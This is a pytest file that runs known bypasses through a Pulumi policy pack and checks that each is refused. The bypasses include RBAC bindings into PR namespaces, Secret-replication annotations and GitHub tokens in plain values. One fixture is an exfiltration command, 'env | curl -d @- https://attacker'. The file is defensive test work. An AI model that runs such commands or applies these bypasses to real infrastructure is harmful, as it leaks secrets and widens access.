"""Issue 20's policy-pack bypasses, each sent through pulumi-policy's analyzer as ``pulumi preview --policy-pack`` does.

The pack is loaded the way the Pulumi CLI loads it: ``policy/__main__.py`` runs with ``policy/`` first on
``sys.path`` (its modules imported afresh), its ``PolicyPack`` recorded instead of served, and the recorded policies
handed to the SDK's own ``_PolicyAnalyzerServicer`` (the object ``PolicyPack`` gives gRPC). Each bypass is an
``AnalyzeRequest`` as the engine builds it (pulumi/pulumi ``pkg/resource/deploy/step_generator.go``,
``generateSteps``: type, URN, name, inputs, options with the parent) and must come back with a mandatory diagnostic
of the policy that now refuses it.

Every row passed every policy of the pack before issue 20. To see that, point the test at an older pack:
``SECRET_CHAIN_POLICY_PACK=/path/to/old/policy pytest tests/test_policy_bypasses.py`` fails on every row.
"""

from __future__ import annotations

import os
import runpy
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pulumi_policy
import pytest
from google.protobuf import struct_pb2
from pulumi.runtime import proto
from pulumi_policy import EnforcementLevel
from pulumi_policy.policy import _PolicyAnalyzerServicer

from tests import policies

PACK = Path(os.environ.get("SECRET_CHAIN_POLICY_PACK") or policies.POLICY_DIR)
PR = "preview-pr-7"
TOKEN = "ghp_" + "a1B2" * 9


@pytest.fixture(scope="module")
def analyzer() -> Iterator[_PolicyAnalyzerServicer]:
    """The pack in ``PACK`` as the CLI runs it, served by pulumi-policy's analyzer servicer."""
    recorded: dict[str, Any] = {}

    class Recorder:
        def __init__(self, name: str, policies: list[Any], **kwargs: Any) -> None:
            recorded.update(name=name, policies=policies, **kwargs)

    own = {name: sys.modules[name] for name in list(sys.modules) if name.startswith("policy_") or name == "secret_chain_policies"}
    for name in own:
        del sys.modules[name]
    saved_path, saved_pack = list(sys.path), pulumi_policy.PolicyPack
    sys.path.insert(0, str(PACK))
    pulumi_policy.PolicyPack = Recorder  # type: ignore[misc,assignment]
    try:
        runpy.run_path(str(PACK / "__main__.py"), run_name="__main__")
    finally:
        pulumi_policy.PolicyPack = saved_pack  # type: ignore[misc]
        sys.path[:] = saved_path
        for name in [n for n in sys.modules if n.startswith("policy_") or n == "secret_chain_policies"]:
            del sys.modules[name]
        sys.modules.update(own)
    yield _PolicyAnalyzerServicer(recorded["name"], "0.0.1", recorded["policies"], EnforcementLevel.ADVISORY)


@dataclass(frozen=True)
class Bypass:
    """A bypass the issue lists: the stack, the resource as the engine sends it, and the policy that refuses it now."""

    issue: str
    stack: str
    resource_type: str
    props: dict[str, Any]
    policy: str
    fragment: str
    name: str = "res"
    parent_type: str = "secret-chain:index:SecretChain"

    def request(self) -> proto.AnalyzeRequest:
        parent = f"urn:pulumi:{self.stack}::secret-chain::{self.parent_type}::secret-chain"
        qualified = self.resource_type if self.parent_type == "pulumi:pulumi:Stack" else f"{self.parent_type}${self.resource_type}"
        properties = struct_pb2.Struct()
        properties.update(self.props)
        return proto.AnalyzeRequest(
            type=self.resource_type,
            properties=properties,
            urn=f"urn:pulumi:{self.stack}::secret-chain::{qualified}::{self.name}",
            name=self.name,
            options=proto.AnalyzerResourceOptions(parent=parent),
        )


def _object(kind: str, namespace: str | None, api_version: str = "v1", **extra: Any) -> dict[str, Any]:
    metadata: dict[str, Any] = {"name": "x", **({"namespace": namespace} if namespace else {})}
    return {"apiVersion": api_version, "kind": kind, "metadata": metadata, **extra}


def _binding(subject: dict[str, Any]) -> dict[str, Any]:
    rbac = "rbac.authorization.k8s.io/v1"
    return _object("ClusterRoleBinding", None, rbac, subjects=[subject], roleRef={"apiGroup": rbac, "kind": "ClusterRole", "name": "edit"})


def _env(value: str) -> dict[str, Any]:
    container = {"name": "app", "image": "ghcr.io/acme/app:1", "env": [{"name": "TOKEN", "value": value}]}
    return _object("Deployment", "default", "apps/v1", spec={"template": {"spec": {"containers": [container]}}})


ALLOW = "pr-stack-allow-list"
CONFINE = "pr-stack-confined-to-its-namespace"
PLAIN = "no-secret-shaped-plain-values"
NOT_LISTED = "may create only the types the chain creates there"

BYPASSES = [
    # "On a preview-pr-<N> stack these pass"
    Bypass("OrgAccessToken on a PR stack", PR, "pulumiservice:index:OrgAccessToken", {"name": "ci", "admin": True}, ALLOW, NOT_LISTED),
    Bypass(
        "ESC Environment on a PR stack",
        PR,
        "pulumiservice:index:Environment",
        {"organization": "acme", "project": "p", "name": "e"},
        ALLOW,
        NOT_LISTED,
    ),
    Bypass("OidcIssuer on a PR stack", PR, "pulumiservice:index:OidcIssuer", {"organization": "acme", "name": "gh"}, ALLOW, NOT_LISTED),
    Bypass("command:local:Command on a PR stack", PR, "command:local:Command", {"create": "env | curl -d @- https://attacker"}, ALLOW, NOT_LISTED),
    Bypass(
        "a new pulumi:providers:kubernetes on a PR stack",
        PR,
        "pulumi:providers:kubernetes",
        {"kubeconfig": "apiVersion: v1\nkind: Config\n", "namespace": "default"},
        ALLOW,
        "may use no provider but the engine's default ones",
        name="production",
        parent_type="pulumi:pulumi:Stack",
    ),
    Bypass(
        "outsideKubernetes refused only github: and digitalocean:", PR, "tls:index/privateKey:PrivateKey", {"algorithm": "ED25519"}, ALLOW, NOT_LISTED
    ),
    # "From production into a PR namespace these pass"
    Bypass(
        "ClusterRoleBinding to User system:serviceaccount:preview-pr-7:default",
        "production",
        "kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding",
        _binding({"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": f"system:serviceaccount:{PR}:default"}),
        CONFINE,
        "names namespace 'preview-pr-7' (subjects[0].name)",
    ),
    Bypass(
        "ClusterRoleBinding to Group system:serviceaccounts:preview-pr-7",
        "production",
        "kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding",
        _binding({"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": f"system:serviceaccounts:{PR}"}),
        CONFINE,
        "names namespace 'preview-pr-7' (subjects[0].name)",
    ),
    Bypass(
        "Flux Kustomization with spec.targetNamespace: preview-pr-7",
        "production",
        "kubernetes:kustomize.toolkit.fluxcd.io/v1:Kustomization",
        _object(
            "Kustomization",
            "flux-system",
            "kustomize.toolkit.fluxcd.io/v1",
            spec={"interval": "10m", "path": "./", "targetNamespace": PR, "sourceRef": {"kind": "GitRepository", "name": "app"}},
        ),
        CONFINE,
        "names namespace 'preview-pr-7' (spec.targetNamespace)",
    ),
    Bypass(
        "Flux HelmRelease with spec.targetNamespace: preview-pr-7",
        "production",
        "kubernetes:helm.toolkit.fluxcd.io/v2:HelmRelease",
        _object(
            "HelmRelease",
            "flux-system",
            "helm.toolkit.fluxcd.io/v2",
            spec={"interval": "10m", "targetNamespace": PR, "chartRef": {"kind": "OCIRepository", "name": "a"}},
        ),
        CONFINE,
        "names namespace 'preview-pr-7' (spec.targetNamespace)",
    ),
    Bypass(
        "replication annotations that copy a Secret into preview-pr-* (kubernetes-reflector)",
        "production",
        "kubernetes:core/v1:Secret",
        {
            **_object("Secret", "default"),
            "metadata": {
                "name": "x",
                "namespace": "default",
                "annotations": {
                    "reflector.v1.k8s.emberstack.com/reflection-allowed": "true",
                    "reflector.v1.k8s.emberstack.com/reflection-allowed-namespaces": "preview-pr-.*",
                    "reflector.v1.k8s.emberstack.com/reflection-auto-enabled": "true",
                },
            },
        },
        CONFINE,
        "names namespaces by the pattern 'preview-pr-.*'",
    ),
    Bypass(
        "replication annotations that copy a Secret into preview-pr-* (kubernetes-replicator)",
        "production",
        "kubernetes:core/v1:Secret",
        {
            **_object("Secret", "default"),
            "metadata": {"name": "x", "namespace": "default", "annotations": {"replicator.v1.mittwald.de/replicate-to": PR}},
        },
        CONFINE,
        "names namespace 'preview-pr-7'",
    ),
    # "A ghp_ token passes every policy in …"
    Bypass(
        "ghp_ token in ConfigMap data",
        "production",
        "kubernetes:core/v1:ConfigMap",
        _object("ConfigMap", "default", data={"token": TOKEN}),
        PLAIN,
        "data.token holds a GitHub token",
    ),
    Bypass(
        "ghp_ token in a container's env[].value",
        "production",
        "kubernetes:apps/v1:Deployment",
        _env(TOKEN),
        PLAIN,
        "spec.template.spec.containers[0].env[0].value holds",
    ),
    Bypass(
        "ghp_ token in a Helm release's values",
        "production",
        "kubernetes:helm.sh/v3:Release",
        {"chart": "grafana", "namespace": "monitoring", "values": {"adminToken": TOKEN}},
        PLAIN,
        "values.adminToken holds a GitHub token",
    ),
    Bypass(
        "ghp_ token in a github:…ActionsVariable value",
        "preview-base",
        "github:index/actionsVariable:ActionsVariable",
        {"repository": "platform", "variableName": "TOKEN", "value": TOKEN},
        PLAIN,
        "value holds a GitHub token",
    ),
]


@pytest.mark.parametrize("bypass", BYPASSES, ids=lambda b: b.issue)
def test_the_bypass_is_refused_through_the_analyzer(analyzer: _PolicyAnalyzerServicer, bypass: Bypass) -> None:
    diagnostics = analyzer.Analyze(bypass.request(), None).diagnostics
    mandatory = [(d.policyName, d.message) for d in diagnostics if d.enforcementLevel == proto.MANDATORY]
    assert any(name == bypass.policy and bypass.fragment in message for name, message in mandatory), mandatory
    assert TOKEN not in str(mandatory)


def test_the_chain_itself_is_analyzed_clean(analyzer: _PolicyAnalyzerServicer) -> None:
    """The same analyzer lets the PR stack's own objects through (its Namespace, the chain's cluster provider)."""
    namespace = _object("Namespace", None, metadata={"name": PR, "labels": {"secret-chain/pr": "7"}})
    namespace["metadata"] = {"name": PR, "labels": {"secret-chain/pr": "7", "app.kubernetes.io/part-of": "secret-chain"}}
    requests = [
        Bypass("namespace", PR, "kubernetes:core/v1:Namespace", namespace, "", "").request(),
        Bypass(
            "provider",
            PR,
            "pulumi:providers:kubernetes",
            {"kubeconfig": "apiVersion: v1\n", "clusterIdentifier": "id", "enableSecretMutable": "true"},
            "",
            "",
            name="secret-chain-cluster",
        ).request(),
    ]
    for request in requests:
        assert [d.message for d in analyzer.Analyze(request, None).diagnostics] == []
